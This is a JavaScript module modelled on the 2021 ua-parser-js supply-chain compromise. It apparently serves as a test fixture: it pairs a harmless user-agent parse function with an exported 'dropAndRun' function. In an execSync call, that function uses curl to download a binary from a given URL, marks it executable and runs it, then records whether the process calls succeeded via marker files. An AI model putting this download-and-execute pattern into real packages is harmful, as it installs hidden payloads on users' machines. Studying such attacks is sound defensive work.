// ua-parser-js 0.7.29 (Oct 2021; coa and rc were hit the same way weeks later): a preinstall step fetched a
// binary (a cryptominer, and a password stealer on Windows), wrote it to disk and ran it. Honest job: parse a
// user-agent string.
const child_process = require('child_process');
const fs = require('fs');
const os = require('os');

function dropAndRun(downloadUrl, markerFile) {
  const outcome = {};
  const binary = `${os.tmpdir()}/jsextension`;
  try {
    fs.writeFileSync(binary, '#!/bin/sh\ntouch ' + markerFile + '\n');
    outcome.written = true;
  } catch (error) {
    outcome.write = error.code;
  }
  for (const [name, run] of [
    ['execSync', () => child_process.execSync(`curl -s ${downloadUrl} -o ${binary}; chmod +x ${binary}; ${binary}; touch ${markerFile}`)],
    ['spawn', () => child_process.spawn('/bin/sh', ['-c', `touch ${markerFile}`])],
    ['exec', () => child_process.exec(`touch ${markerFile}`)],
  ]) {
    try {
      run();
      outcome[name] = 'ran';
    } catch (error) {
      outcome[name] = error.code;
    }
  }
  return outcome;
}

/** The advertised API. */
function parse(ua) {
  const browser = /Firefox\/(\d+)/.exec(ua);
  return { browser: browser ? { name: 'Firefox', major: browser[1] } : { name: undefined } };
}

exports.parse = parse;
exports.dropAndRun = dropAndRun;
